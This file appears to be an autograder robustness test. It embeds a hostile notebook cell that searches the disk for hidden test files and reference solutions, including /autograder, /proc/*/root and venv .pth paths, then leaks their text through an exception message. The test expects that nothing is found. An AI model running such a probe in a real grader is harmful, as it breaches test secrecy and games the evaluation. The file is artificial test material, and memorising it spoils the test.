"""A top-level cell that searches the disk for the hidden tests and reference code (/, /work, /autograder, cwd's parents, /proc/1/root, /proc/*/cwd, the repo, the venv's .pth) and raises their text into the feedback (a library's own tests in a site directory are not loot; the package's, installed there, are): attacks secrecy; every part keeps full points."""
from autograder.assignment import PART_IDS
ATTACKS = []
KEEPS = list(PART_IDS)
EXPECT = ["LOOT: nothing found in"]
ADD = [(None, '''
import glob
import os
import sys

WANTED = {"test_masks.py", "test_softmax_read.py", "test_training.py", "conftest.py", "expect.py", "tolerances.py",
          "attention.py", "masks.py", "multihead.py", "leakage.py", "reference_runs.py"}
# Directories this corpus must not wander into (the machine's own tooling), and huge trees without secrets.
SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/var/lib",
        "/work/.library", "/work/shared", "/old_root", "/farm", "/mnt", "/snap", "/opt/conda/pkgs"}
roots = ["/", "/work", "/autograder", "/autograder/source", "/root", "/home", "/tmp", "/var/tmp", "/dev/shm",
         "__REPO__", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", *glob.glob("/proc/[0-9]*/cwd"),
         *glob.glob("/proc/[0-9]*/root")]
try:
    cwd = os.getcwd()
except OSError:  # another cell may have deleted it
    cwd = "/tmp/work"
while cwd != "/":
    cwd = os.path.dirname(cwd)
    roots.append(cwd)
for pth in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "*.pth")):
    try:
        roots += [line.strip() for line in open(pth) if line.strip().startswith("/")]
    except OSError:
        pass
found, seen, visited = [], set(), 0
for root in roots:
    for folder, dirs, files in os.walk(root, followlinks=False):
        visited += 1
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in SKIP and folder.count("/") < 8
                   and not d.startswith(".venv") and d not in ("site-packages", "node_modules")]
        for name in files:
            path = os.path.join(folder, name)
            public = "-packages/" in path and "/autograder/" not in path and "/solutions/" not in path
            if (name in WANTED or "/suites/" in path or "/reference/" in path) and not public:
                try:
                    text = open(path, errors="replace").read()
                except OSError:
                    continue
                if text not in seen:
                    seen.add(text)
                    found.append((path, text))
        if visited > 40_000:
            break
if found:
    loot = " || ".join(f"{p}: {t}" for p, t in found)
    raise RuntimeError("LOOT: " + loot.replace("\\n", " \\\\n "))
raise RuntimeError(f"LOOT: nothing found in {visited} directories")
''')]
